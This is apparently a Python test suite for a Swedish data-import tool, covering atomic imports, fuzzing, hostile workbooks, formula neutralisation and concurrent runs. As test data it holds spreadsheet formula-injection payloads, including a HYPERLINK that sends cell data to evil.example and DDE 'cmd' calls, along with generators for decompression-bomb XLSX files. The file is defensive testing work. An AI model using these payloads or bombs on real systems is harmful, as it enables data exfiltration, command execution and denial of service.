"""Reliability (issue 9): whole-or-nothing imports under arbitrary input, a large file with one
bad row at its end, formulas that never run in what we write, and steps started twice at once.

The bad-input corpus itself is ``tests/fixtures/imports/cases.py`` (run by test_importers.py);
RELIABILITY.md lists every case and its result.
"""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import Connection, func, insert, select

from arshjul.action_plan import worksheet
from arshjul.action_plan.plans import Plan, PlannedAction
from arshjul.analysis.findings import Finding as AnalysisFinding
from arshjul.config import Config
from arshjul.errors import InputError
from arshjul.formats import tables
from arshjul.formats.tables import read_tables
from arshjul.importers import import_file
from arshjul.models import Action, ActionStatus, Deviation, Finding, ImportBatch, OrgLevel
from arshjul.org import Unit
from tests.conftest import FIXTURES, NOW
from tests.fixtures.imports.cases import (
    ACTION_HEADER,
    DEV_BOOK,
    DEV_HEADER,
    DEV_OK,
    FINDING_E1,
    FINDINGS,
    ORGANISATION,
    damaged,
    lines,
)

#: a snapshot of the tables an import writes, in a comparable form
WRITTEN = (Deviation, ImportBatch)


def snapshot(conn: Connection) -> list[list[tuple[object, ...]]]:
    return [
        sorted(tuple(r) for r in conn.execute(select(model.__table__)).all()) for model in WRITTEN
    ]


def count(conn: Connection, model: type) -> int:
    return conn.execute(select(func.count()).select_from(model)).scalar_one()


@pytest.fixture
def org(conn: Connection, config: Config) -> None:
    import_file(conn, config, "organisation", ORGANISATION, now=NOW)


# --- one bad row at the end of a large file -------------------------------------------------

ROWS = 100_000


def large_file(last: str) -> bytes:
    rows = (f"D{i};E{1 + i % 2};2025-01-03;2025-01-05;Fall;1;2;nej;nej;Ny;" for i in range(ROWS))
    return lines(DEV_HEADER, *rows, last)


@pytest.mark.parametrize(
    ("last", "column", "reason"),
    [
        ("DX;E1;2025-01-03;2025-13-05;Fall;1;2;nej;nej;Ny;", "Rapporteringsdatum", "no such date"),
        ("DX;E1;2025-01-03;19121212-1212", "Rapporteringsdatum", "personnummer"),
        ('DX;E1;2025-01-03;"2025-01-05;Fall;1;2;nej;nej;Ny;', None, "broken quoting"),
    ],
    ids=["impossible-date", "personnummer-in-a-short-row", "unclosed-quote"],
)
def test_a_large_file_with_one_bad_row_at_its_end_stores_nothing(
    conn, config, org, tmp_path, last, column, reason
):
    path = tmp_path / "deviations.csv"
    path.write_bytes(large_file(last))
    with pytest.raises(InputError) as raised:
        import_file(conn, config, "deviations", path, now=NOW)
    located = [(p.line, p.column) for p in raised.value.problems if reason in p.reason]
    assert located == [(ROWS + 2, column)], str(raised.value)[:500]
    assert count(conn, Deviation) == 0 and count(conn, ImportBatch) == 1


def test_the_same_large_file_with_the_row_corrected_is_stored_whole(conn, config, org, tmp_path):
    path = tmp_path / "deviations.csv"
    path.write_bytes(large_file("DX;E1;2025-01-03;2025-01-05;Fall;1;2;nej;nej;Ny;"))
    assert import_file(conn, config, "deviations", path, now=NOW).inserted == ROWS + 1
    assert count(conn, Deviation) == ROWS + 1


# --- properties: an import stores the whole file or nothing ---------------------------------

#: values for each deviation column, good ones and bad ones mixed
DEVIATION_VALUES = [
    st.sampled_from(["D1", "D2", "D3", "", "D" * 70, "191212121212"]),
    st.sampled_from(["E1", "E2", "E9", ""]),
    st.sampled_from(["2025-01-03", "", "2025-02-30", "1812-01-01"]),
    st.sampled_from(["2025-01-05", "2025-01-01", "2099-01-01", "5/1/2025"]),
    st.sampled_from(["Fall", "läkemedel", "Fal"]),
    st.sampled_from(["1", "Måttlig", "7", ""]),
    st.sampled_from(["2", "", "Mycket trolig"]),
    st.sampled_from(["nej", "ja", "x", "kanske"]),
    st.sampled_from(["nej", ""]),
    st.sampled_from(["Ny", "Avslutad", "Besvarad"]),
    st.sampled_from(["", "2025-02-01", "2025-01-04"]),
    st.sampled_from(["", "föll", "pat 121212-1212"]),  # Beskrivning: free text, dropped
]
deviation_rows = st.lists(st.tuples(*DEVIATION_VALUES).map(";".join), min_size=1, max_size=8)


@settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
    derandomize=True,
)
@given(rows=deviation_rows, earlier=st.booleans())
def test_an_import_stores_the_whole_file_or_nothing(conn, config, org, tmp_path, rows, earlier):
    with conn.begin_nested() as example:
        if earlier:  # a file imported before, which a later one may update
            import_file(conn, config, "deviations", write(tmp_path, dev_file(DEV_OK)), now=NOW)
        before = snapshot(conn)
        path = write(tmp_path, lines(DEV_HEADER + ";Beskrivning", *rows))
        try:
            result = import_file(conn, config, "deviations", path, now=NOW)
        except InputError as refused:
            assert refused.problems and "nothing was stored" in str(refused)
            assert snapshot(conn) == before
        else:
            stored = dict(conn.execute(select(Deviation.source_id, Deviation.category)).all())
            in_file = {row.split(";")[0] for row in rows}
            assert in_file <= set(stored)
            assert result.rows == len(in_file)
            assert result.already_imported or count(conn, ImportBatch) == len(before[1]) + 1
            # and once more: the same bytes change nothing
            assert import_file(conn, config, "deviations", path, now=NOW).already_imported
        example.rollback()


@settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
    derandomize=True,
)
@given(
    cuts=st.lists(
        st.tuples(st.integers(0, 400), st.integers(0, 6), st.binary(max_size=4)), max_size=4
    )
)
def test_damaged_bytes_are_stored_whole_or_refused_never_a_crash(conn, config, org, tmp_path, cuts):
    """Bytes deleted and inserted anywhere (quotes, delimiters, NULs, halves of UTF-8 letters):
    the file is stored or refused with problems, and nothing else ever happens."""
    data = bytearray(dev_file(DEV_OK, "D2;E2;;2025-03-02;Läkemedel;Måttlig;;ja;x;Pågående;"))
    for at, remove, added in cuts:
        at = min(at, len(data))
        data[at : at + remove] = added
    with conn.begin_nested() as example:
        before = snapshot(conn)
        try:
            import_file(conn, config, "deviations", write(tmp_path, bytes(data)), now=NOW)
        except InputError:
            assert snapshot(conn) == before
        else:
            assert count(conn, ImportBatch) == len(before[1]) + 1
        example.rollback()


def dev_file(*rows: str) -> bytes:
    return lines(DEV_HEADER, *rows)


def write(folder: Path, content: bytes, name: str = "deviations.csv") -> Path:
    path = folder / name
    path.write_bytes(content)
    return path


# --- hostile workbooks: small files that would take the machine down (issue 15) -------------

#: the parts of a minimal workbook but its sheet, as Excel needs them
_PARTS = {
    "[Content_Types].xml": (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>'
    ),
    "_rels/.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r='
        '"http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        '<sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    ),
}
_SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
_HEADER_ROW = '<row r="1">' + "".join(
    f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{title}</t></is></c>'
    for i, title in enumerate(DEV_HEADER.split(";"))
)


def hostile_workbook(path: Path, write_sheet) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in _PARTS.items():
            archive.writestr(name, content)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            write_sheet(sheet)
    return path


def far_cell(sheet) -> None:
    sheet.write(
        f'{_SHEET}<dimension ref="A1:XFD1048576"/><sheetData>{_HEADER_ROW}</row>'
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        "</sheetData></worksheet>".encode()
    )


def gigabyte_cell(sheet) -> None:
    sheet.write(
        f'{_SHEET}<sheetData>{_HEADER_ROW}</row><row r="2"><c r="A2" t="inlineStr"><is><t>'.encode()
    )
    block = b"A" * (1 << 20)
    for _ in range(1024):
        sheet.write(block)
    sheet.write(b"</t></is></c></row></sheetData></worksheet>")


#: read in a process of its own, with its memory limited: a regression must not take the
#: machine down with it
_READ_IN_A_CORNER = """
import resource, sys
from pathlib import Path
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
from arshjul.importers.read import sheets, survey
path = Path(sys.argv[1])
for sheet in sheets(path, survey(path, path.name), path.name):
    for problem in sheet.problems:
        print(problem)
"""


@pytest.mark.parametrize(
    ("write_sheet", "size", "problem"),
    [
        (
            far_cell,
            4_000,
            ", line 1048576: a cell in column XFD, beyond the header's last column (K)",
        ),
        (
            gigabyte_cell,
            8_000_000,
            ": not a readable XLSX workbook (xl/worksheets/sheet1.xml unpacks to more than 256 MB"
            " (1024 MB or more): save a smaller workbook, or the sheet as CSV)",
        ),
    ],
    ids=["one-far-cell-in-a-sheet-said-to-fill-the-grid", "a-sheet-that-unpacks-to-1-GB"],
)
def test_a_small_hostile_workbook_is_refused_in_bounded_memory_and_time(
    tmp_path, write_sheet, size, problem
):
    path = hostile_workbook(tmp_path / "deviations.xlsx", write_sheet)
    assert path.stat().st_size < size
    done = subprocess.run(
        [sys.executable, "-c", _READ_IN_A_CORNER, str(path)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout == f"deviations.xlsx{problem}\n"


def test_reading_a_workbook_has_a_deadline(conn, config, org, tmp_path, monkeypatch):
    """A good workbook, refused when reading it takes longer than ``workbook.SECONDS`` (here:
    any time at all)."""
    from arshjul.importers import workbook

    monkeypatch.setattr(workbook, "SECONDS", -1.0)
    path = write(tmp_path, DEV_BOOK, "deviations.xlsx")
    with pytest.raises(InputError, match="xl/workbook.xml: still not read after"):
        import_file(conn, config, "deviations", path, now=NOW)


def test_a_header_of_more_than_1024_columns_is_refused(conn, config, org, tmp_path):
    header = '<row r="1">' + "".join(
        f'<c r="{letters}1" t="inlineStr"><is><t>k</t></is></c>'
        for letters in ("A", "B", "AMK")  # AMK is column 1025
    )

    def wide(sheet) -> None:
        sheet.write(f"{_SHEET}<sheetData>{header}</row></sheetData></worksheet>".encode())

    path = hostile_workbook(tmp_path / "deviations.xlsx", wide)
    with pytest.raises(InputError, match=r"more than 1024 columns in the header \(1025\)"):
        import_file(conn, config, "deviations", path, now=NOW)


def test_a_workbook_openpyxl_warns_about_is_read_without_a_warning(conn, config, org, tmp_path):
    """openpyxl warned "Workbook contains no default style" with its own file's path; warnings
    are errors in the tests."""
    styles = (
        b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<cellXfs><xf numFmtId="1"/></cellXfs></styleSheet>'
    )
    path = write(tmp_path, damaged(DEV_BOOK, "xl/styles.xml", lambda _: styles), "deviations.xlsx")
    assert import_file(conn, config, "deviations", path, now=NOW).inserted == 1


# --- formulas in the data never become formulas in what we write ---------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(n).decode()
            for n in archive.namelist()
            if n.startswith("xl/worksheets/sheet")
        )


def test_text_that_looks_like_a_formula_stays_text_in_tables_numbers_stay_numbers():
    body = tuple(
        (tables.Cell(text), tables.Cell("-12,5", tables.parse_number("-12,5")[0]))  # type: ignore[index]
        for text in [*FORMULAS, "#N/A", "Fall"]
    )
    table = tables.Table(
        "Åtgärder", ((tables.Cell("Åtgärd"), tables.Cell("Förändring")),), body, ()
    )
    data = tables.workbook_bytes([table], title="t", created=NOW)
    assert "<f>" not in sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    texts = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in texts] == [*FORMULAS, "#N/A", "Fall"]
    assert {c.data_type for c in texts} == {"s"}
    assert all(c.quotePrefix for c in texts[: len(FORMULAS)])  # editing in Excel keeps text
    assert [c.value for c in sheet["B"][1:]] == [-12.5] * (len(FORMULAS) + 2)

    read = list(csv.reader(io.StringIO(tables.csv_bytes(table).decode("utf-8-sig")), delimiter=";"))
    assert [row[0] for row in read[1:]] == [*("'" + f for f in FORMULAS), "#N/A", "Fall"]
    assert {row[1] for row in read[1:]} == {"-12,5"}  # a negative number is no formula
    assert tables.inert_text("+3") == "+3" and tables.inert_text("-") == "'-"


def test_a_formula_as_an_action_title_is_imported_as_text_and_written_back_as_text(
    conn, config, org, tmp_path
):
    """Accepted: an action's title is the unit's own text, whatever it starts with. It is
    stored as typed and comes back in next year's worksheet as text, never as a formula."""
    finding_id, unit_id, finding_title = FINDINGS[0]
    conn.execute(
        insert(Finding),
        [dict(id=finding_id, year=2025, unit_id=unit_id, kind="category", title=finding_title,
              measure="count", value=12.0, baseline=7.0, severity=2, run_id="run-1")],
    )  # fmt: skip
    title = FORMULAS[0]
    quoted = '"' + title.replace('"', '""') + '"'
    row = f"E1-2026-001;E1;{FINDING_E1};x;{quoted};Enhetschef;;Planerad;"
    import_file(conn, config, "actions", write(tmp_path, lines(ACTION_HEADER, row)), now=NOW)
    assert conn.execute(select(Action.title)).scalar_one() == title

    stored = AnalysisFinding(2025, "E1", "category", "Fall", "@SUM(1+1)", "Fall", 12, 7, 2)
    assert stored.id == finding_id
    action = PlannedAction(
        "E1-2026-001", "E1", finding_id, title, "Enhetschef", None, ActionStatus.PLANNED, None
    )
    plan = Plan("E1", 2025, ((stored, (action,)),), (), (), (), {})
    unit = Unit("E1", "=Enhet ett", OrgLevel.UNIT, "V1")
    data = worksheet.workbook_bytes(worksheet.build_workbook(unit, plan, config.codes, NOW))
    assert "<f>" not in sheet_xml(data)
    first = load_workbook(io.BytesIO(data)).worksheets[0]
    assert (first["D2"].value, first["E2"].value) == ("@SUM(1+1)", title)
    assert first["E2"].data_type == "s"
    # the unit sends it back: the same text again, nothing changed
    back = write(tmp_path, data, "atgarder.xlsx")
    result = import_file(conn, config, "actions", back, now=NOW)
    assert (result.inserted, result.updated) == (0, 0)
    assert conn.execute(select(Action.title)).scalar_one() == title


# --- two runs of one step at once -------------------------------------------------------------


def arshjul(args: list[str], env: dict[str, str], cwd: Path) -> subprocess.Popen[str]:
    """``arshjul ARGS`` as its own process, as an operator or a scheduler starts it."""
    program = Path(sys.executable).with_name("arshjul")
    return subprocess.Popen(
        [str(program), *args],
        env=env,
        cwd=cwd,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def cli_env(folder: Path, api_url: str | None) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("ARSHJUL_", "PREFECT_"))}
    env.update(
        ARSHJUL_HOME=str(folder),
        ARSHJUL_DATABASE_URL=f"sqlite:///{folder / 'arshjul.sqlite'}",
        ARSHJUL_OUT=str(folder / "out"),
        ARSHJUL_NOW=NOW.isoformat(),
        ARSHJUL_FEED_SECRET="reliability-test-secret-0123456789",
        PREFECT_HOME=str(folder / "prefect"),
        PYTHONPATH=str(Path(__file__).parents[1]),
    )
    if api_url:  # the test session's Prefect server: no server started per process
        env["PREFECT_API_URL"] = api_url
    return env


def finished(process: subprocess.Popen[str], timeout: float = 240) -> tuple[int, str]:
    out, err = process.communicate(timeout=timeout)
    return process.returncode, out + err


@pytest.fixture
def prefect_api(prefect_harness: None) -> str:
    from prefect.settings import PREFECT_API_URL

    url = PREFECT_API_URL.value()
    assert url, "the Prefect test harness has a server"
    return url


@pytest.fixture
def imported(tmp_path: Path, prefect_api: str) -> dict[str, str]:
    """A working folder with the compile fixtures imported, and the environment to use it."""
    env = cli_env(tmp_path, prefect_api)
    for kind in ("organisation", "deviations", "complaints"):
        code, output = finished(
            arshjul(["import", kind, str(FIXTURES / "compile" / f"{kind}.csv")], env, tmp_path)
        )
        assert code == 0, output
    return env


ALL_UNITS = ("R1", "A1", "A2", "V1", "V2", "E1", "E2", "E3")


def step_runs(folder: Path) -> list[tuple[str, str, str, str, str]]:
    with sqlite3.connect(folder / "arshjul.sqlite") as db:
        return db.execute("SELECT step, period, unit_id, run_id, state FROM step_run").fetchall()


def locks_left(folder: Path) -> int:
    with sqlite3.connect(folder / "arshjul.sqlite") as db:
        return db.execute("SELECT count(*) FROM step_lock").fetchone()[0]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("first", "second"),
    [
        (["--unit", "E1"], ["--unit", "E1"]),  # two manual triggers of one unit's step
        ([], ["--unit", "E1"]),  # the scheduled whole-region run and a manual one for a unit
    ],
    ids=["same-unit-twice", "region-and-unit"],
)
def test_two_compile_runs_at_once_both_end_correctly(tmp_path, imported, first, second):
    runs = [
        arshjul(["compile", "--year", "2025", *args], imported, tmp_path)
        for args in (first, second)
    ]
    results = [finished(run) for run in runs]
    for code, output in results:
        # each run either did its work or was refused naming the run it waited for
        assert code == 0 or (code == 1 and "gjordes inte: en annan körning" in output), output
    assert any(code == 0 for code, _ in results)
    assert locks_left(tmp_path) == 0
    # one step_run row per unit and run that finished, none of a refused run
    expected = {(): set(ALL_UNITS), ("--unit", "E1"): {"E1", "V1", "A1", "R1"}}
    done = [
        expected[tuple(args)]
        for args, (code, _) in zip((first, second), results, strict=True)
        if code == 0
    ]
    # every document whole: parsed, and ending as a page does
    documents = sorted((tmp_path / "out" / "2025").rglob("sammanstallning.html"))
    assert len(documents) == len(set().union(*done))
    for doc in documents:
        assert doc.read_text("utf-8").rstrip().endswith("</html>"), doc
        assert read_tables(tables.parse_html(doc.read_text("utf-8")))
    assert not list((tmp_path / "out").rglob("*.tmp"))
    by_run: dict[str, set[str]] = {}
    for step, period, unit, run, state in step_runs(tmp_path):
        assert (step, period, state) == ("compile", "2025", "done")
        by_run.setdefault(run, set()).add(unit)
    assert sorted(map(sorted, by_run.values())) == sorted(map(sorted, done))
